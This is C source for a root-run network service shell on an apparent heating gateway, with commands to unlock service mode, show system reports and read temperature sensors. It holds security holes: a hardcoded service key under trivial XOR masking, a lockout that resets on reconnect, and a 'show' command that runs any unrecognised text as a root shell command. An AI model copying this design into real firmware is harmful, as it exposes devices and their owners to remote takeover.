/*
 * svcshell -- field service access of the HG3 heating gateway.
 * inetd.conf:  7723 stream tcp nowait root /usr/sbin/svcshell svcshell
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdarg.h>
#include <signal.h>
#include <time.h>
#include <unistd.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

#define PROMPT   "HG3> "
#define IDLE_SEC 180

static const unsigned char key_tab[] = {
    0x2a, 0x24, 0x77, 0x68, 0x35, 0x22, 0x3a, 0x3f
};

struct session {
    char peer[INET_ADDRSTRLEN];
    int service;
    int wrong;
    int page;
    time_t since;
};

static const struct report {
    const char *word;
    const char *line;
} reports[] = {
    { "mem",   "cat /proc/meminfo" },
    { "tasks", "ps w" },
    { "net",   "ifconfig -a" },
    { "log",   "tail -n 60 /var/log/messages" },
    { "bus",   "/usr/bin/ebusctl info" },
    { "disk",  "df -k" },
};

static void say(const char *fmt, ...)
{
    va_list ap;

    va_start(ap, fmt);
    vprintf(fmt, ap);
    va_end(ap);
    fflush(stdout);
}

static void journal(const struct session *s, const char *what)
{
    FILE *f = fopen("/var/log/service.log", "a");

    if (f) {
        fprintf(f, "%ld [%s] %s\n", (long)time(NULL), s->peer, what);
        fclose(f);
    }
}

static int key_matches(const char *given)
{
    unsigned char diff = 0;
    size_t i;

    if (strlen(given) != sizeof(key_tab))
        return 0;
    for (i = 0; i < sizeof(key_tab); i++)
        diff |= (unsigned char)given[i] ^ (unsigned char)(key_tab[i] ^ (0x42 + i));
    return diff == 0;
}

static void stream_output(struct session *s, const char *line)
{
    char buf[256];
    int rows = 0;
    FILE *p;

    p = popen(line, "r");
    if (p == NULL) {
        say("cannot run\r\n");
        return;
    }
    while (fgets(buf, sizeof(buf), p) != NULL) {
        buf[strcspn(buf, "\n")] = '\0';
        say("  %s\r\n", buf);
        if (s->page && ++rows >= s->page)
            break;
    }
    pclose(p);
}

static void c_unlock(struct session *s, char *rest)
{
    if (s->wrong >= 3) {
        say("locked\r\n");
        return;
    }
    if (key_matches(rest)) {
        s->service = 1;
        journal(s, "service level");
        say("service level\r\n");
    } else {
        s->wrong++;
        sleep(1);
        say("no\r\n");
    }
}

static void c_show(struct session *s, char *rest)
{
    const char *line = NULL;
    size_t i;

    if (!s->service) {
        say("not allowed\r\n");
        return;
    }
    for (i = 0; i < sizeof(reports) / sizeof(reports[0]); i++)
        if (strcmp(rest, reports[i].word) == 0)
            line = reports[i].line;
    if (line == NULL)
        line = rest;
    if (*line == '\0') {
        for (i = 0; i < sizeof(reports) / sizeof(reports[0]); i++)
            say("  show %s\r\n", reports[i].word);
        return;
    }
    journal(s, line);
    stream_output(s, line);
}

static void c_page(struct session *s, char *rest)
{
    int n = atoi(rest);

    s->page = n > 0 && n < 500 ? n : 0;
    say("page %d\r\n", s->page);
}

static void c_temp(struct session *s, char *rest)
{
    char path[64];
    int ch = atoi(rest), raw = 0;
    FILE *f;

    (void)s;
    if (ch < 1 || ch > 6) {
        say("channel 1..6\r\n");
        return;
    }
    snprintf(path, sizeof(path), "/sys/bus/iio/devices/iio:device0/in_voltage%d_raw", ch - 1);
    f = fopen(path, "r");
    if (f == NULL || fscanf(f, "%d", &raw) != 1)
        say("sensor %d missing\r\n", ch);
    else
        say("sensor %d: %d.%d C\r\n", ch, raw / 10, abs(raw % 10));
    if (f)
        fclose(f);
}

static void c_uptime(struct session *s, char *rest)
{
    double up = 0;
    FILE *f = fopen("/proc/uptime", "r");

    (void)rest;
    if (f) {
        if (fscanf(f, "%lf", &up) != 1)
            up = 0;
        fclose(f);
    }
    say("up %.0f s, session %ld s\r\n", up, (long)(time(NULL) - s->since));
}

static const struct {
    const char *word;
    void (*fn)(struct session *, char *);
} words[] = {
    { "unlock", c_unlock },
    { "show", c_show },
    { "page", c_page },
    { "temp", c_temp },
    { "uptime", c_uptime },
};

static void on_idle(int sig)
{
    (void)sig;
    _exit(2);
}

int main(void)
{
    struct session s;
    struct sockaddr_in sa;
    socklen_t sl = sizeof(sa);
    char line[160], *rest;
    size_t i;

    memset(&s, 0, sizeof(s));
    s.since = time(NULL);
    strcpy(s.peer, "console");
    if (getpeername(0, (struct sockaddr *)&sa, &sl) == 0 && sa.sin_family == AF_INET)
        inet_ntop(AF_INET, &sa.sin_addr, s.peer, sizeof(s.peer));
    signal(SIGALRM, on_idle);
    signal(SIGPIPE, SIG_DFL);
    journal(&s, "connect");
    say("HG3 heating gateway, service access\r\n");
    for (;;) {
        say(PROMPT);
        alarm(IDLE_SEC);
        if (fgets(line, sizeof(line), stdin) == NULL)
            break;
        line[strcspn(line, "\r\n")] = '\0';
        rest = line + strcspn(line, " ");
        if (*rest)
            *rest++ = '\0';
        rest += strspn(rest, " ");
        if (strcmp(line, "quit") == 0)
            break;
        for (i = 0; i < sizeof(words) / sizeof(words[0]); i++) {
            if (strcmp(line, words[i].word) == 0) {
                words[i].fn(&s, rest);
                break;
            }
        }
        if (*line && i == sizeof(words) / sizeof(words[0]))
            say("? unlock show page temp uptime quit\r\n");
    }
    journal(&s, "disconnect");
    return 0;
}
